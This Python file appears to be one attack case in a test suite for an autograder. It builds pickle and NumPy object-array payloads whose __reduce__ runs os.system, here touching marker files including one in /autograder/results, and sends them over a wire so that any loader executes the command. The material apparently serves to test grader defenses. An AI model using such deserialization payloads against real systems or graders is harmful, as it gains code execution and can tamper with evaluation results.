"""Row 10: sends pickles that run a command where they are loaded: instead of a frame, inside one, as a tensor.

Where: import, forward
Only here: yes
"""

import torch
from torch import nn, os, sys

from tests.project.grade.attacks.shared.frames import np, send, wire

io, pickle = sys.modules["io"], sys.modules["pickle"]


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/taken-by-pickle /autograder/results/TAKEN",)


def attack(*_):
    if not wire:
        return
    plain = pickle.dumps(Command())
    buffer = io.BytesIO()
    np.save(buffer, np.array([Command()], dtype=object), allow_pickle=True)
    for index, body in enumerate((plain, buffer.getvalue())):
        send(wire.pack(index, body))
    send(plain)
